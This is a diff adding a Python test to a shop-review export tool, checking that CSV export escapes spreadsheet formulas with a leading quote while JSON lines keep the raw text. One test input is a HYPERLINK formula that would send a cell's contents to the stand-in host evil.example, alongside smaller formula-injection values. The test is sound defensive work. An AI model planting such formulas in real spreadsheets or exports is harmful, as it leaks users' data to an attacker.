@@ -53,6 +53,16 @@ def test_the_export_holds_every_review_with_its_status_reply_and_provenance(clie
     assert len(table) == 4 and {row["reply_body"] for row in table} >= {"Kiitos, Aino!"}
 
 
+def test_the_csv_export_hands_spreadsheets_text_never_formulas_and_json_lines_stay_exact(client, shops):
+    formula = '=HYPERLINK("http://evil.example/?d="&N2,"Click")'
+    fields = {"title": formula, "body": "+SUM(1,2)", "author_name": "@Anni", "email": "anni@example.fi"}
+    approve(client, shops, post_review(client, **fields)["id"])
+    (row,) = csv.DictReader(io.StringIO(run(shops.path, "export", "kahvi", "--format", "csv")))
+    assert (row["title"], row["body"], row["author_name"]) == ("'" + formula, "'+SUM(1,2)", "'@Anni")
+    (record,) = [json.loads(line) for line in run(shops.path, "export", "kahvi").splitlines()]
+    assert (record["title"], record["body"], record["author_name"]) == (formula, "+SUM(1,2)", "@Anni")
+
+
 def test_a_round_trip_to_a_fresh_instance_shows_the_same_widgets_and_summaries(client, shops, tmp_path):
     a_shop_with_history(client, shops, tmp_path)
     exported = tmp_path / "kahvi.jsonl"
